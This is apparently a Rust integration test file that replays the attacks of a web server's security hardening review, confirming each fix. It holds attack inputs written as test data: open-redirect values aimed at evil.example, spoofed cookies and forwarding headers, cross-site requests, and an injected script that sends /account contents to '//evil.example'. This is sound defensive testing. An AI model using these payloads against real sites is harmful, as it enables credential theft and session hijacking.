//! The attacks of the hardening review, each tried over real HTTP against
//! the real router and a real SQLite file. Every test here failed before its
//! fix.

mod common;

use std::{str::FromStr, time::Duration};

use common::{new_client, text_between, TestApp, PW};
use tower_sessions::{session::Id, SessionStore};

const ADA: &str = "ada@example.com";

/// Creates the learner Ada and returns the session cookie (`name=id`) of
/// a cookie-less sign-in, for the attacks that send it by hand.
async fn ada_session(app: &TestApp) -> String {
    app.create_user(ADA, "Ada", "learner", PW).await;
    app.session_cookie(ADA).await
}

/// Signs `email` in and sends "sign out everywhere" from that new session.
async fn sign_out_everywhere(app: &TestApp, email: &str) -> reqwest::Response {
    let other = app.signed_in(email, PW).await;
    other
        .post(app.url("/account/sessions"))
        .send()
        .await
        .unwrap()
}

/// Finding 1: `next` after sign-in only ever leads to a page of this site,
/// and odd bytes in it never cost a 500.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_in_never_redirects_off_the_site() {
    let app = TestApp::spawn_fixture(|_| {}).await;
    app.create_user(ADA, "Ada", "learner", PW).await;
    let sign_in = |next| {
        let form = [("email", ADA), ("password", PW), ("next", next)];
        let app = &app;
        async move { app.post_form(&app.new_client(), "/login", &form).await }
    };
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "/ /evil.example",
        "/\\evil.example",
        "//evil.example",
        "/caf\u{e9}",
        "/\u{2028}/evil.example",
        "https://evil.example/",
    ] {
        let resp = sign_in(next).await;
        assert_eq!(resp.status(), 303, "next={next:?}");
        let location = resp.headers()["location"].to_str().unwrap().to_string();
        assert!(
            location == "/" || location == "/dashboard" || location == "/evil.example",
            "next={next:?} went to {location:?}"
        );
    }
    // A good local path is kept.
    let resp = sign_in("/lessons/alpha/two?x=1").await;
    assert_eq!(resp.headers()["location"], "/lessons/alpha/two?x=1");
}

/// Finding 2: a signed-in page never enters the cache shared by visitors,
/// however the session cookie is spelled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn odd_session_cookies_cannot_poison_the_page_cache() {
    let app = TestApp::spawn_fixture(|_| {}).await;
    app.create_user(
        "mallory@example.com",
        "Mallory Uniquename",
        "instructor",
        PW,
    )
    .await;
    let cookie = app.session_cookie("mallory@example.com").await;
    let (name, id) = cookie.split_once('=').unwrap();
    let variants = [
        ("/", format!("{name} ={id}")),
        ("/lessons", format!("{}={id}", name.replace('_', "%5F"))),
        ("/lessons/alpha/one", format!("x=\u{ff}; {name}={id}")),
        ("/lessons/alpha/two", format!("{name}={id}")),
        ("/lessons/beta/three", format!(" {name}={id} ;")),
    ];
    for (path, cookie) in &variants {
        let mut value = reqwest::header::HeaderValue::from_str("").unwrap();
        if let Ok(v) = reqwest::header::HeaderValue::from_bytes(&latin1(cookie)) {
            value = v;
        }
        // The attacker's request, twice (the second could be a cache hit).
        for _ in 0..2 {
            let resp = new_client()
                .get(app.url(path))
                .header("cookie", value.clone())
                .send()
                .await
                .unwrap();
            assert!(resp.status().is_success(), "{path}");
        }
        // Every visitor after it.
        for _ in 0..2 {
            let (_, html) = app.get_text(&new_client(), path).await;
            assert!(
                !html.contains("Mallory Uniquename") && !html.contains("Sign out"),
                "{path} served a signed-in page to a visitor after cookie {cookie:?}"
            );
        }
    }
}

/// Cookie text with each char as one byte (so `\u{ff}` is the byte 0xFF).
fn latin1(s: &str) -> Vec<u8> {
    s.chars().map(|c| c as u32 as u8).collect()
}

/// Finding 3: behind a proxy, the client cannot pick its own rate-limit
/// bucket by writing X-Forwarded-For: the proxy's entry (the rightmost) counts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_forwarded_for_does_not_escape_the_rate_limit() {
    let app = TestApp::spawn_fixture(|c| c.http.trusted_proxies = 1).await;
    let attempt = |forwarded_for: String, email: String| {
        new_client()
            .post(app.url("/login"))
            .header("x-forwarded-for", forwarded_for)
            .form(&[("email", email), ("password", "wrong password".into())])
            .send()
    };
    let mut limited = 0;
    for i in 0..14 {
        // A new email each time: the per-email lock must not be what answers 429.
        let email = format!("nobody{i}@example.com");
        let resp = attempt(format!("10.1.{i}.{i}, 192.0.2.7"), email)
            .await
            .unwrap();
        if resp.status() == 429 {
            limited += 1;
            assert!(resp.headers().contains_key("retry-after"));
        }
    }
    assert!(limited >= 3, "only {limited} of 14 attempts were limited");
    // Another client behind the same proxy has its own bucket.
    let resp = attempt("192.0.2.8".into(), "else@example.com".into())
        .await
        .unwrap();
    assert_ne!(resp.status(), 429);
}

/// Finding 5: a request that loaded a session before "sign out
/// everywhere" cannot bring it back when it saves at its end.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_ended_everywhere_does_not_come_back() {
    let app = TestApp::spawn_fixture(|_| {}).await;
    let cookie = ada_session(&app).await;
    let id = cookie.split_once('=').unwrap().1;
    let pool = app.pool().await;
    let store = app::auth::session_store::DbStore::new(pool.clone(), Default::default());
    // A slow request read the session...
    let held = store
        .load(&Id::from_str(id).unwrap())
        .await
        .unwrap()
        .expect("live session");
    // ...while Ada signed out everywhere from another device.
    let resp = sign_out_everywhere(&app, ADA).await;
    assert_eq!(resp.status(), 303);
    // The slow request ends and saves what it holds.
    store.save(&held).await.unwrap();
    let dash = app
        .get_with_cookie(&new_client(), "/dashboard", &cookie)
        .await;
    assert_eq!(dash.status(), 302, "the ended session is signed in again");

    // The same race over HTTP only: many requests in flight on one session
    // while it is ended.
    let cookie = app.session_cookie(ADA).await;
    let id = cookie.split_once('=').unwrap().1;
    let busy: Vec<_> = (0..24)
        .map(|_| {
            let url = app.url("/dashboard");
            let cookie = cookie.clone();
            tokio::spawn(async move {
                new_client()
                    .get(url)
                    .header("cookie", cookie)
                    .send()
                    .await
                    .map(|r| r.status())
            })
        })
        .collect();
    sign_out_everywhere(&app, ADA).await;
    for b in busy {
        b.await.unwrap().unwrap();
    }
    let n = app.count_where("sessions", &format!("id = '{id}'")).await;
    assert_eq!(n, 0, "the ended session row came back");
}

/// Finding 6: only same-origin requests change anything.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cross_site_and_origin_less_posts_with_a_cookie_are_refused() {
    let app = TestApp::spawn_fixture(|_| {}).await;
    let cookie = ada_session(&app).await;
    let https_origin = app.base.replace("http://", "https://");
    // The form with the cookie, from a client that adds no header itself.
    let mark = |headers: &[(&str, &str)]| {
        let mut req = new_client()
            .post(app.url("/progress/complete"))
            .header("cookie", &cookie)
            .form(&[("lesson_id", "lesson-one"), ("done", "1")]);
        for (k, v) in headers {
            req = req.header(*k, *v);
        }
        req.send()
    };
    let attacks: [&[(&str, &str)]; 5] = [
        &[("sec-fetch-site", "same-site")],
        &[("sec-fetch-site", "cross-site")],
        &[],
        &[("origin", &https_origin)],
        &[("origin", "null")],
    ];
    for headers in attacks {
        let resp = mark(headers).await.unwrap();
        assert_eq!(resp.status(), 403, "{headers:?}");
        assert!(resp
            .text()
            .await
            .unwrap()
            .contains("sent from another website"));
    }
    let done = app
        .count_where("lesson_progress", "completed_at IS NOT NULL")
        .await;
    assert_eq!(done, 0, "a refused request changed progress");
    // The same request from the site itself works.
    for headers in [
        [("sec-fetch-site", "same-origin")],
        [("origin", app.base.as_str())],
    ] {
        assert_eq!(mark(&headers).await.unwrap().status(), 303, "{headers:?}");
    }
}

/// Finding 7: `__Host-` cookie over https; signed-in pages and server
/// functions are never stored by a cache.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn https_cookies_are_host_only_and_private_pages_are_not_stored() {
    let app = TestApp::spawn_fixture(|c| c.settings.secure_cookies = true).await;
    app.create_user(ADA, "Ada", "learner", PW).await;
    let form = [("email", ADA), ("password", PW)];
    let resp = app.post_form(&new_client(), "/login", &form).await;
    let set = resp.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(set.starts_with("__Host-academy_session="), "{set}");
    assert!(
        set.contains("Secure") && set.contains("Path=/") && !set.contains("Domain"),
        "{set}"
    );

    let app = TestApp::spawn_fixture(|_| {}).await;
    let (ada, _) = app.sign_in_as("learner").await;
    for path in ["/dashboard", "/lessons/alpha/one", "/account"] {
        let resp = ada.get(app.url(path)).send().await.unwrap();
        assert_eq!(resp.status(), 200, "{path}");
        assert_eq!(resp.headers()["cache-control"], "no-store", "{path}");
    }
    let form = [("lesson_id", "lesson-one"), ("done", "true")];
    let resp = app.call(&ada, "/api/progress/complete", &form).await;
    assert_eq!(resp.headers()["cache-control"], "no-store");
    let resp = new_client()
        .post(app.url("/api/search"))
        .body("nonsense")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["cache-control"], "no-store");
}

/// Finding 8: sign-in emails are bounded, old failure rows are purged, and
/// password changes are rate-limited and counted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failure_bookkeeping_is_bounded() {
    let app = TestApp::spawn_fixture(|_| {}).await;
    for (len, sentence) in [
        (1000, "at most 254 characters"),
        (64 * 1024, "Backend Academy"),
    ] {
        let huge = format!("{}@example.com", "a".repeat(len));
        let form = [("email", huge.as_str()), ("password", "whatever it is")];
        let resp = app.post_form(&app.new_client(), "/login", &form).await;
        assert_eq!(resp.status(), 400, "{len}");
        assert!(resp.text().await.unwrap().contains(sentence), "{len}");
    }
    let pool = app.pool().await;
    let longest: Option<i64> = app
        .scalar("SELECT CAST(max(length(email)) AS BIGINT) FROM login_failures")
        .await;
    assert!(longest.unwrap_or(0) <= 254, "{longest:?}");

    // Old rows go, recent ones and running locks stay.
    let now = app::common::time::now();
    let (long_ago, lately, later) = (
        (now - 3 * 86400).to_string(),
        (now - 60).to_string(),
        (now + 600).to_string(),
    );
    app.exec(
        "INSERT INTO login_failures (email, failures, locked_until, last_failed_at) VALUES
         ('old@example.com', 3, 0, CAST($1 AS BIGINT)),
         ('recent@example.com', 3, 0, CAST($2 AS BIGINT)),
         ('locked@example.com', 0, CAST($3 AS BIGINT), CAST($1 AS BIGINT))",
        &[&long_ago, &lately, &later],
    )
    .await;
    academy_server::cleanup(&pool).await;
    let left: Vec<String> = app
        .column("SELECT email FROM login_failures ORDER BY email")
        .await;
    assert_eq!(left, vec!["locked@example.com", "recent@example.com"]);

    // Guessing the current password from a signed-in session: counted,
    // locked, and rate-limited per address.
    let (ada, _) = app.user(ADA, "Ada", "learner").await;
    let mut statuses = Vec::new();
    for i in 0..14 {
        let guess = format!("guess number {i}");
        let form = [
            ("current", guess.as_str()),
            ("new", "another long passphrase"),
        ];
        let resp = app.post_form(&ada, "/account/password", &form).await;
        statuses.push(resp.status().as_u16());
    }
    assert!(statuses.contains(&429), "{statuses:?}");
    let locked: Option<i64> = app
        .column("SELECT locked_until FROM login_failures WHERE email = 'ada@example.com'")
        .await
        .into_iter()
        .next();
    assert!(
        locked.is_some_and(|t| t > 0),
        "ten wrong current passwords lock the account: {statuses:?}"
    );
}

/// Finding 10: a cached page's policy allows only the scripts the shell
/// emitted (with the response's nonce), never one inside the content.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cached_policies_allow_only_the_shells_scripts() {
    let app = TestApp::spawn_fixture(|_| {}).await;
    let first = app.get("/lessons/alpha/one").await;
    let csp = first.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    let nonce = text_between(&csp, "'nonce-", "'").expect("a fresh page has a nonce");
    let nonce = nonce.to_string();
    let html = first.text().await.unwrap();
    // Were the sanitizer ever to let a script into a lesson...
    let injected = html.replacen(
        "<h2",
        "<script>fetch('/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script><h2",
        1,
    );
    assert_ne!(injected, html);
    let policy = academy_server::page_cache::cached_policy(&injected, &nonce);
    let shell_only = academy_server::page_cache::cached_policy(&html, &nonce);
    assert_eq!(policy, shell_only, "the injected script was allowed");
    // And the live cache serves the shell's scripts by hash, with no nonce.
    let hit = app.get("/lessons/alpha/one").await;
    assert_eq!(hit.headers()["x-page-cache"], "hit");
    let cached_csp = hit.headers()["content-security-policy"].to_str().unwrap();
    assert_eq!(cached_csp, shell_only);
    assert!(!cached_csp.contains("nonce-"));
    assert!(cached_csp.contains("'sha256-"), "{cached_csp}");
}

/// Finding 12: logs carry no colour codes off a terminal, JSON on request,
/// and a warning when the server is reachable without https.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logs_are_plain_off_a_terminal_and_json_on_request() {
    let text = run_server_briefly(&["--addr", "0.0.0.0:0"]).await;
    assert!(text.contains("listening on"), "{text}");
    assert!(
        !text.contains('\u{1b}'),
        "ANSI codes in a piped log: {text:?}"
    );
    assert!(
        text.contains("without an https --public-url"),
        "no warning for a public address: {text}"
    );
    let json = run_server_briefly(&["--addr", "127.0.0.1:0", "--log-format", "json"]).await;
    let lines: Vec<&str> = json.lines().filter(|l| !l.trim().is_empty()).collect();
    assert!(lines.len() >= 2, "{json}");
    for line in lines {
        let v: serde_json::Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("not JSON ({e}): {line}"));
        assert!(
            v.get("level").is_some() && v.get("fields").is_some(),
            "{line}"
        );
    }
    assert!(
        !json.contains("without an https"),
        "loopback needs no warning"
    );
}

/// Starts the real binary with `args`, waits until it listens, stops it
/// with SIGTERM, and returns what it wrote to standard error.
async fn run_server_briefly(args: &[&str]) -> String {
    use tokio::io::AsyncReadExt;
    let dir = tempfile::tempdir().unwrap();
    // The small fixture curriculum: a debug build renders it in milliseconds.
    common::fixture_content(&dir.path().join("content"));
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_academy"))
        .arg("serve")
        .args(args)
        .arg("--db")
        .arg(dir.path().join("a.db"))
        .arg("--content")
        .arg(dir.path().join("content"))
        .arg("--site-root")
        .arg(dir.path())
        .env_remove("RUST_LOG")
        .env_remove("NO_COLOR")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut stderr = child.stderr.take().unwrap();
    let mut out = Vec::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
    let mut buf = [0u8; 4096];
    while !String::from_utf8_lossy(&out).contains("listening on") {
        let n = tokio::time::timeout_at(deadline, stderr.read(&mut buf))
            .await
            .expect("the server started")
            .unwrap();
        assert!(
            n > 0,
            "the server exited: {}",
            String::from_utf8_lossy(&out)
        );
        out.extend_from_slice(&buf[..n]);
    }
    let pid = child.id().unwrap().to_string();
    std::process::Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .unwrap();
    tokio::time::timeout(Duration::from_secs(30), stderr.read_to_end(&mut out))
        .await
        .expect("the server stopped")
        .unwrap();
    let status = child.wait().await.unwrap();
    assert!(status.success(), "{status}");
    String::from_utf8_lossy(&out).into_owned()
}
